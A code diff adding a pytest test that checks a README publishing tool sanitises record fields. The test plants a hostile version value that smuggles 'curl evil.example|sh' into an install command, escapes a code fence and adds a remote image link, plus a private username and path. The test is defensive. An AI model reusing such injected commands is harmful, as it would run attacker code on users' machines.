@@ -163,6 +163,18 @@ def test_the_front_matter_is_a_hubs_and_the_commands_are_there(tmp_path: Path) -
     assert main(["report", str(into)]) == 0
 
 
+def test_a_version_is_no_command_and_nothing_private(tmp_path: Path) -> None:
+    """README.md had it in a command, as it stood in the record."""
+    study = make_study(tmp_path / "study", seeds=1)
+    evil = '1"; curl evil.example|sh\n```\n\n![x](//evil.example/x.png)'
+    for file in study.glob("runs/*/record.json"):
+        edit(file, environment={"hf_optim": evil, "torch": f"2.1 of {USER} in /cluster/lab/torch"})
+    assert main(["publish", str(study), str(tmp_path / "public")]) == 0
+    text = (tmp_path / "public" / "README.md").read_text()
+    assert 'pip install "hf-optim[study]"\n' in text and text.count("```") == 2 and "x](" not in text
+    assert "torch 2.1 of USER in torch" in text and USER not in text and "/cluster" not in text
+
+
 def test_it_is_written_to_a_new_folder_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     study = make_study(tmp_path / "study", seeds=1)
     full, link = tmp_path / "full", tmp_path / "link"
